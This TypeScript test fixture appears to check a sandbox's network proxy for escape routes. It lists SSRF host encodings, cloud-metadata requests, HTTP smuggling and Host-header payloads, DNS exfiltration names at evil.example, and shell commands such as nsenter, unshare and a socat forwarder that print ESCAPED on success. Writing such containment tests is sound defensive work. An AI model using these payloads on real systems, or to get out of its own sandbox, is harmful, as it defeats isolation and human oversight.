import type { Surroundings } from "../../given/surroundings.ts";

/** Bytes that a program sends to its proxy, by what it tries. */
export function rawTries({ witness, allowed, renamed }: Surroundings): Record<string, string> {
  const connect = (authority: string) => `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;
  const get = (url: string, headers = "") =>
    `GET ${url} HTTP/1.1\r\nHost: 127.0.0.1:${allowed}\r\n${headers}\r\n`;
  const own = `http://127.0.0.1:${allowed}/`;
  const inner = get(`http://127.0.0.1:${witness}/`);
  return {
    "CONNECT to the loopback address of the host": connect(`127.0.0.1:${witness}`),
    "CONNECT to localhost": connect(`localhost:${witness}`),
    "CONNECT to LOCALHOST with a dot": connect(`LOCALHOST.:${witness}`),
    "CONNECT to the loopback address of IPv6": connect(`[::1]:${witness}`),
    "CONNECT to an address of IPv4 in IPv6": connect(`[::ffff:127.0.0.1]:${witness}`),
    "CONNECT to an address of IPv4 in NAT64": connect(`[64:ff9b::7f00:1]:${witness}`),
    "CONNECT to an address with a zone": connect(`[fe80::1%25lo]:${witness}`),
    "CONNECT to an address in decimal": connect(`2130706433:${witness}`),
    "CONNECT to an address in hexadecimal": connect(`0x7f000001:${witness}`),
    "CONNECT to an address in octal": connect(`0177.0.0.1:${witness}`),
    "CONNECT to an address with two parts": connect(`127.1:${witness}`),
    "CONNECT to the address of every interface": connect(`0.0.0.0:${witness}`),
    "CONNECT to the address of every interface of IPv6": connect(`[::]:${witness}`),
    "CONNECT to the address of a list with another port": connect("127.0.0.1:22"),
    "CONNECT to metadata of a cloud": connect("169.254.169.254:80"),
    "CONNECT with a name and a password": connect(`127.0.0.1:${allowed}@127.0.0.1:${witness}`),
    "CONNECT with two ports": connect(`127.0.0.1:${allowed}:${witness}`),
    "CONNECT without a port": connect("127.0.0.1"),
    "CONNECT to a host with a null": connect(`localhost\0.example.com:${witness}`),
    "CONNECT to a host that carries data for a name server": connect("c2VjcmV0.evil.example:443"),
    "CONNECT to a name that leads to a private address": connect(`localhost:${renamed}`),
    "a whole URL of the loopback address": inner,
    "a whole URL of metadata of a cloud": get("http://169.254.169.254/latest/meta-data/"),
    "a whole URL with a name and a password": get(`http://127.0.0.1:${allowed}@127.0.0.1:${witness}/`),
    "a whole URL with a fragment": get(`http://127.0.0.1:${witness}/#@127.0.0.1:${allowed}/`),
    "a whole URL with a backslash": get(`http://127.0.0.1:${witness}\\@127.0.0.1:${allowed}/`),
    "a whole URL of another scheme": get(`ftp://127.0.0.1:${witness}/`),
    "a whole URL of a socket": get("http+unix://%2frun%2fmillrace%2fnetwork.sock/"),
    "another Host header": `GET ${own} HTTP/1.1\r\nHost: 127.0.0.1:${witness}\r\n\r\n`,
    "two Host headers": `GET ${own} HTTP/1.1\r\nHost: 127.0.0.1:${allowed}\r\nHost: 127.0.0.1:${witness}\r\n\r\n`,
    "a length and chunks at once": `POST ${own} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
    "an unknown transfer encoding": `POST ${own} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${inner}`,
    "a header that is folded": `GET ${own} HTTP/1.1\r\nHost: x\r\nX-A: b\r\n Transfer-Encoding: chunked\r\n\r\n${inner}`,
    "a second request behind the first": `${get(own)}${inner}`,
    "a request in the body of another": `POST ${own} HTTP/1.1\r\nHost: x\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
    "an upgrade to h2c": get(
      own,
      "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n",
    ),
    "HTTP/2 without an upgrade": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "HTTP/0.9": `GET http://127.0.0.1:${witness}/\r\n`,
    "a path that names a host": get(`//127.0.0.1:${witness}/`),
    "the metrics of the server": get("/metrics"),
    "the metrics of the server behind dots": get("/api/v1/../../metrics"),
    "the metrics of the server behind encoded dots": get("/api/v1/%2e%2e/%2e%2e/metrics"),
    "the metrics of the server behind encoded slashes": get("/api/v1/..%2f..%2fmetrics"),
    "the metrics of the server behind a backslash": get("/api/v1/..\\..\\metrics"),
    "the dashboard of the server": get("/"),
    "an endpoint that nobody has set up": get(`/endpoints/http:%2f%2f127.0.0.1:${witness}/`),
    "an asterisk": "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
    "SOCKS 5 to the loopback address": socks([1, 127, 0, 0, 1], witness),
    "SOCKS 5 to localhost": socks([3, 9, ...Buffer.from("localhost")], witness),
    "SOCKS 5 to an address as a name": socks([3, 9, ...Buffer.from("127.0.0.1")], witness),
    "SOCKS 5 to the loopback address of IPv6": socks([4, ...Array(15).fill(0), 1], witness),
    "SOCKS 5 to an address of IPv4 in IPv6": socks(
      [4, ...Array(10).fill(0), 255, 255, 127, 0, 0, 1],
      witness,
    ),
    "SOCKS 5 for datagrams": socks([1, 127, 0, 0, 1], witness, 3),
    "SOCKS 5 to listen": socks([1, 0, 0, 0, 0], witness, 2),
    "SOCKS 4": bytes([4, 1, witness >> 8, witness & 255, 127, 0, 0, 1, 0]),
    "TLS for another host": connectAnd(`localhost:${allowed}`, hello("elsewhere.example")),
    "TLS for no host": connectAnd(`localhost:${allowed}`, hello(undefined)),
    "TLS with a broken greeting": connectAnd(
      `localhost:${allowed}`,
      bytes([0x16, 3, 1, 0, 5, 1, 0, 0, 1, 0]),
    ),
  };
}

const bytes = (values: readonly number[]) => Buffer.from(values).toString("latin1");

/** CONNECT, and what a program says right after it. */
const connectAnd = (authority: string, said: string) =>
  `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n${said}`;

function socks(address: readonly number[], port: number, command = 1): string {
  return bytes([5, 1, 0, 5, command, 0, ...address, port >> 8, port & 255]);
}

/** The greeting of TLS 1.2 that asks for a host. */
function hello(name: string | undefined): string {
  const text = Buffer.from(name ?? "");
  const extension = [
    0,
    0,
    ...word(text.length + 5),
    ...word(text.length + 3),
    0,
    ...word(text.length),
    ...text,
  ];
  const extensions = name === undefined ? [] : extension;
  const body = [
    3,
    3,
    ...Array(32).fill(7),
    0,
    ...word(2),
    0xc0,
    0x2f,
    1,
    0,
    ...word(extensions.length),
    ...extensions,
  ];
  const handshake = [1, 0, ...word(body.length), ...body];
  return bytes([0x16, 3, 1, ...word(handshake.length), ...handshake]);
}

const word = (value: number) => [value >> 8, value & 255];

/** Shell commands that look for another way out. Each says ESCAPED when it has found one. */
export function shellTries(
  { witness, allowed, hostAddress }: Surroundings,
  /** What a sandbox shows of its proxy, and nothing else. */
  shown: readonly string[] = ["network.sock"],
): Record<string, string> {
  const reach = (where: string) => `${where} 2> /dev/null | grep -q WITNESS && echo ESCAPED`;
  const curl = "curl -s --max-time 2 --noproxy '*'";
  return {
    "a direct connection to the loopback address": reach(`${curl} http://127.0.0.1:${witness}/`),
    "a direct connection to the loopback address of IPv6": reach(`${curl} 'http://[::1]:${witness}/'`),
    "a direct connection to an address of the host": reach(`${curl} http://${hostAddress}:${witness}/`),
    "a direct connection without any variable": reach(
      `env -i /usr/bin/curl -s --max-time 2 http://127.0.0.1:${witness}/`,
    ),
    "a redirect to the loopback address": reach(
      `curl -s -L --noproxy '' http://127.0.0.1:${allowed}/redirect`,
    ),
    "a redirect to metadata of a cloud": `curl -s -L --noproxy '' -o /dev/null -w '%{http_code}' http://127.0.0.1:${allowed}/metadata | grep -q 403 || echo ESCAPED`,
    "a name through the resolver of the system": "getent ahosts example.com && echo ESCAPED",
    "a name through a name server": `node -e 'const r = new (require("dns").Resolver)({ timeout: 500, tries: 1 }); r.setServers(["127.0.0.1:${witness}"]); r.resolve4("data.evil.example", (e) => process.exit())'`,
    "a datagram, as QUIC sends them": `node -e 'const s = require("dgram").createSocket("udp4"); s.send("quic", ${witness}, "127.0.0.1", () => s.close())'`,
    "a datagram to an address of the host": `node -e 'const s = require("dgram").createSocket("udp4"); s.on("error", () => s.close()); s.send("quic", ${witness}, "${hostAddress}", () => s.close())'`,
    "an abstract socket of the host": reach(
      `socat - ABSTRACT-CONNECT:millrace-witness-${witness} < /dev/null`,
    ),
    "a socket file of the host": reach(
      `socat - UNIX-CONNECT:/tmp/millrace-witness-${witness}.sock < /dev/null`,
    ),
    "the proxies of other runs": `[ "$(ls -A /run/millrace | tr "\\n" " ")" = "${shown.join(" ")} " ] || echo ESCAPED`,
    "the network of the first process": reach(
      `nsenter --net=/proc/1/ns/net ${curl} http://127.0.0.1:${witness}/`,
    ),
    "a network of another user namespace": reach(
      `unshare --user --map-root-user --net ${curl} http://127.0.0.1:${witness}/`,
    ),
    "another interface in a user namespace":
      "unshare --user --map-root-user ip link add e0 type veth peer name e1 2> /dev/null && echo ESCAPED",
    "a route of its own": "ip route add default dev lo 2> /dev/null && echo ESCAPED",
    "inherited descriptors": `for at in /proc/$$/fd/*; do case "\${at##*/} $(readlink $at)" in [012]" "*) ;; *socket:*) echo ESCAPED ;; esac; done`,
    "the processes of the proxy":
      "grep -la [a]gent-supervisor /proc/[0-9]*/cmdline 2> /dev/null && echo ESCAPED",
    "a forwarder of its own": `pkill socat; socat TCP-LISTEN:3128,bind=127.0.0.1,reuseaddr TCP:127.0.0.1:${witness} & sleep 0.3; ${reach(`${curl} http://127.0.0.1:3128/`)}`,
  };
}

/** Kinds of sockets that a kernel may have; 0 says that this one was opened and reached something, 3 that the kernel lacks it. */
export const SOCKET_KINDS = `
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <linux/vm_sockets.h>

static int lacks(void) {
  return errno == EAFNOSUPPORT || errno == ENOSYS || errno == EPROTONOSUPPORT || errno == ESOCKTNOSUPPORT ? 3 : 1;
}

int main(int count, char **words) {
  const char *kind = count > 1 ? words[1] : "";
  if (!strcmp(kind, "raw")) return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) < 0 ? lacks() : 0;
  if (!strcmp(kind, "raw6")) return socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6) < 0 ? lacks() : 0;
  if (!strcmp(kind, "packet")) return socket(AF_PACKET, SOCK_RAW, htons(3)) < 0 ? lacks() : 0;
  if (!strcmp(kind, "ping")) {
    int made = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
    if (made < 0) return lacks();
    struct sockaddr_in to = { .sin_family = AF_INET };
    inet_pton(AF_INET, "1.1.1.1", &to.sin_addr);
    return sendto(made, "12345678", 8, 0, (void *)&to, sizeof to) < 0 ? 1 : 0;
  }
  if (!strcmp(kind, "vsock")) {
    int made = socket(AF_VSOCK, SOCK_STREAM, 0);
    if (made < 0) return lacks();
    struct sockaddr_vm to = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = 1024 };
    return connect(made, (void *)&to, sizeof to) < 0 ? 1 : 0;
  }
  if (!strcmp(kind, "tipc")) return socket(30, SOCK_STREAM, 0) < 0 ? lacks() : 0;
  if (!strcmp(kind, "bluetooth")) return socket(31, SOCK_RAW, 1) < 0 ? lacks() : 0;
  if (!strcmp(kind, "uring")) {
    char parameters[120] = { 0 };
    return syscall(425, 4, parameters) < 0 ? lacks() : 2;
  }
  return 1;
}
`;

export const KINDS = ["raw", "raw6", "packet", "ping", "vsock", "tipc", "bluetooth"] as const;

/** A program for Node that sends the texts of tries.json to its proxy, and prints what comes back, by the names of the tries. */
export const SENDER = `
  const { connect } = require("node:net");
  const tries = JSON.parse(require("node:fs").readFileSync("tries.json", "utf8"));
  const send = (text) => new Promise((done) => {
    let said = "";
    const socket = connect(3128, "127.0.0.1", () => socket.write(Buffer.from(text, "latin1")));
    const end = () => (socket.destroy(), done(said));
    socket.on("data", (bytes) => (said += bytes.toString("latin1")));
    socket.on("error", end).on("close", end);
    setTimeout(end, 700);
  });
  (async () => {
    const answers = {};
    for (const [name, text] of Object.entries(tries)) answers[name] = await send(text);
    console.log(JSON.stringify(answers));
  })();`;
